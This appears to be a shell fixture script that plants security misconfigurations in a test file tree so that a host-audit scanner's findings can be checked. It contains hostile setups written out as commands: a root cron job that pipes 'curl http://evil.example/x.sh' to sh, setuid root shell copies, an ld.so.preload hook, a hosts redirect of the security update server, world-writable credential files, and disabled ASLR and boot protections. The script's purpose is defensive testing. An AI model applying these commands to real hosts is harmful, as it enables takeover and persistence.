# Mounts, kernel, boot, file modes, packages, integrity.

plant host.filesystem.tmp_options '"path":"/tmp"' <<'EOF'
sed -i 's|^tmpfs /tmp .*|tmpfs /tmp tmpfs defaults 0 0|' etc/fstab
EOF
plant host.filesystem.home_options '"path":"/home"' <<'EOF'
sed -i 's|/home ext4 nodev,nosuid|/home ext4 defaults|' etc/fstab
EOF
plant host.filesystem.network_options '//10.1.1.8/share' <<'EOF'
echo '//10.1.1.8/share /mnt cifs credentials=/etc/cred 0 0' >>etc/fstab
EOF
plant -a host.filesystem.separate_tmp '"missing":"/tmp"' <<'EOF'
sed -i '/ \/tmp /d' etc/fstab
EOF
plant host.kernel.aslr '"value":"0"' <<'EOF'
sed -i 's/^kernel.randomize_va_space.*/kernel.randomize_va_space = 0/' \
	etc/sysctl.d/90-office.conf
EOF
plant host.kernel.accept_redirects '"value":"1"' <<'EOF'
sed -i 's/^\(net.ipv4.conf.all.accept_redirects\).*/\1 = 1/' \
	etc/sysctl.d/90-office.conf
EOF
plant host.kernel.syncookies '"value":"0"' <<'EOF'
sed -i 's/^net.ipv4.tcp_syncookies.*/net.ipv4.tcp_syncookies = 0/' \
	etc/sysctl.d/90-office.conf
EOF
plant host.kernel.suid_dumpable '"value":"2"' <<'EOF'
sed -i 's/^fs.suid_dumpable.*/fs.suid_dumpable = 2/' etc/sysctl.d/90-office.conf
EOF
plant host.kernel.sysrq '"value":"1"' <<'EOF'
echo 'kernel.sysrq = 1' >>etc/sysctl.d/90-office.conf
EOF
plant host.kernel.filesystem_modules '"module":"cramfs"' <<'EOF'
mkdir -p lib/modules/6.1.0-25-amd64/kernel/fs/cramfs
echo 'kernel/fs/cramfs/cramfs.ko:' >lib/modules/6.1.0-25-amd64/modules.dep
: >lib/modules/6.1.0-25-amd64/kernel/fs/cramfs/cramfs.ko
EOF
plant host.boot.loader_password '"loader":"grub2"' <<'EOF'
sed -i '/superusers\|password_pbkdf2/d' boot/grub/grub.cfg
EOF
plant host.boot.kernel_line 'apparmor=0' <<'EOF'
sed -i 's/ro quiet/& apparmor=0 mitigations=off/' boot/grub/grub.cfg
EOF
plant host.boot.ctrl_alt_del '"ctrl_alt_del":1' <<'EOF'
rm etc/systemd/system/ctrl-alt-del.target
EOF

plant host.file.passwd '"path":"/etc/passwd"' <<'EOF'
chmod 666 etc/passwd
EOF
plant host.file.shadow '"path":"/etc/shadow"' <<'EOF'
chmod 644 etc/shadow
EOF
plant host.file.sudoers '/etc/sudoers.d/bangong' <<'EOF'
chmod 666 etc/sudoers.d/bangong
EOF
plant host.file.cron '"path":"/etc/crontab"' <<'EOF'
chmod 666 etc/crontab
EOF
plant host.file.grub '"path":"/boot/grub/grub.cfg"' <<'EOF'
chmod 644 boot/grub/grub.cfg
EOF
plant host.file.sshd_config '"path":"/etc/ssh/sshd_config"' <<'EOF'
chmod 666 etc/ssh/sshd_config
EOF
plant host.file.root_home '"path":"/root"' <<'EOF'
chmod 755 root
EOF
plant host.file.world_writable '/usr/local/share/open.txt' <<'EOF'
mkdir -p usr/local/share
: >usr/local/share/open.txt
chmod 666 usr/local/share/open.txt
EOF
plant host.file.unowned '/var/orphan' <<'EOF'
: >var/orphan
chown 54321:54321 var/orphan
EOF
plant host.file.sticky_missing '/var/drop' <<'EOF'
mkdir var/drop
chmod 777 var/drop
EOF
plant host.file.device '/var/lib/.disk' <<'EOF'
mknod var/lib/.disk b 8 0
EOF
plant host.file.other_tree '/srv/old-system' <<'EOF'
mkdir -p srv/old-system/etc srv/old-system/dev srv/old-system/usr/bin
cp etc/passwd srv/old-system/etc/passwd
cp etc/os-release srv/old-system/etc/os-release
mknod srv/old-system/dev/sda b 8 0
cp bin/dash srv/old-system/usr/bin/su
chmod 4755 srv/old-system/usr/bin/su
EOF
plant host.file.rhosts '/home/zhanggong/.rhosts' <<'EOF'
echo '+ +' >home/zhanggong/.rhosts
EOF
plant host.file.hosts_equiv '/etc/hosts.equiv' <<'EOF'
echo '+' >etc/hosts.equiv
EOF
plant host.malware.setuid_unpackaged '/usr/local/bin/rootsh' <<'EOF'
cp bin/dash usr/local/bin/rootsh
chmod 4755 usr/local/bin/rootsh
EOF
plant host.file.setgid_unpackaged '/usr/local/bin/groupsh' <<'EOF'
cp bin/dash usr/local/bin/groupsh
chown 0:42 usr/local/bin/groupsh
chmod 2755 usr/local/bin/groupsh
EOF
plant host.file.capability_unpackaged '/usr/local/bin/capsh0' <<'EOF'
cp bin/dash usr/local/bin/capsh0
perl -e 'my $v = pack("V5", 0x02000001, 1 << 7, 0, 0, 0);
	require "syscall.ph"' 2>/dev/null || :
setcap cap_setuid+ep usr/local/bin/capsh0 2>/dev/null ||
	python3 -c 'import os, struct
os.setxattr("usr/local/bin/capsh0", "security.capability",
    struct.pack("<5I", 0x02000001, 1 << 7, 0, 0, 0))'
EOF
plant host.malware.program_changed '"path":"/usr/bin/sort"' <<'EOF'
printf '#!/bin/sh\n# not what the package brought\n' >>usr/bin/sort
EOF
plant host.malware.program_missing '/usr/bin/chsh' <<'EOF'
rm usr/bin/chsh
EOF
plant host.malware.preload '/usr/lib/libhide.so' <<'EOF'
echo /usr/lib/libhide.so >etc/ld.so.preload
EOF
plant host.malware.hosts_redirect 'security.debian.org' <<'EOF'
echo '203.0.113.9 security.debian.org' >>etc/hosts
EOF
plant host.malware.autostart_writable '/tmp/.update' <<'EOF'
mkdir -p home/zhanggong/.config/autostart
printf '[Desktop Entry]\nType=Application\nName=Update\nExec=/tmp/.update\n' \
	>home/zhanggong/.config/autostart/update.desktop
EOF
plant host.malware.schedule_download 'evil.example' <<'EOF'
echo '*/5 * * * * root curl -s http://evil.example/x.sh | sh' \
	>etc/cron.d/telemetry
EOF
plant host.malware.schedule_writable '/tmp/job.sh' <<'EOF'
echo '0 3 * * * root /tmp/job.sh' >etc/cron.d/night
: >tmp/job.sh
chmod 777 tmp/job.sh
EOF
plant host.schedule.root_home '/home/zhanggong/run.sh' <<'EOF'
echo '0 4 * * * root sh /home/zhanggong/run.sh' >>etc/cron.d/night
EOF
plant host.schedule.no_account '"account":"nobodyhere"' <<'EOF'
echo '0 5 * * * nobodyhere /bin/true' >>etc/cron.d/night
EOF
plant host.schedule.open_to_all '"missing":"cron.allow"' <<'EOF'
rm etc/cron.allow
EOF

# status NAME VERSION [STATE]: a package in dpkg's database.
status() {
	printf '\nPackage: %s\nStatus: install ok %s\nPriority: optional\nSection: misc\nMaintainer: A <a@example.org>\nArchitecture: amd64\nVersion: %s\nDescription: %s\n' \
		"$1" "${3:-installed}" "$2" "$1" >>var/lib/dpkg/status
}
plant host.update.half_installed '"name":"halfway"' <<'EOF'
status halfway 1.0 half-installed
EOF
plant host.package.network_tools '"package":"hydra"' <<'EOF'
status hydra 9.4-1
EOF
plant host.package.build_tools '"package":"gcc"' <<'EOF'
status gcc 4:12.2.0-3
EOF
plant host.package.old_clients '"package":"rsh-client"' <<'EOF'
status rsh-client 0.17-22
EOF
plant host.update.unsigned_source 'http://10.1.1.31/own' <<'EOF'
echo 'deb [trusted=yes] http://10.1.1.31/own ./' \
	>etc/apt/sources.list.d/own.list
EOF
plant host.update.no_automatic '"hostname":"office-pc"' <<'EOF'
printf 'APT::Periodic::Unattended-Upgrade "0";\n' \
	>etc/apt/apt.conf.d/20auto-upgrades
EOF
plant host.update.security_pending '"package":"libc6"' <<'EOF'
printf 'Origin: Debian\nLabel: Debian-Security\nSuite: stable-security\nCodename: bookworm-security\nDate: %s\n' \
	"$(LC_ALL=C date -u '+%a, %d %b %Y %H:%M:%S UTC')" \
	>var/lib/apt/lists/10.1.1.30_debian-security_dists_bookworm-security_InRelease
printf 'Package: libc6\nArchitecture: amd64\nVersion: 9:9.99-1\n' \
	>var/lib/apt/lists/10.1.1.30_debian-security_dists_bookworm-security_main_binary-amd64_Packages
EOF
plant -a host.update.lists_old '"lists_at":null' <<'EOF'
rm -rf var/lib/apt/lists/*
EOF
plant -a host.update.not_upgraded '"last_upgrade":1577' <<'EOF'
rm -f var/log/dpkg.log
printf 'Start-Date: 2020-01-01  10:00:00\nUpgrade: tar:amd64 (1, 2)\n' \
	>var/log/apt/history.log
printf 'End-Date: 2020-01-01  10:01:00\n' >>var/log/apt/history.log
EOF
plant -a host.update.no_source '"hostname":"office-pc"' <<'EOF'
rm etc/apt/sources.list.d/office.sources
EOF
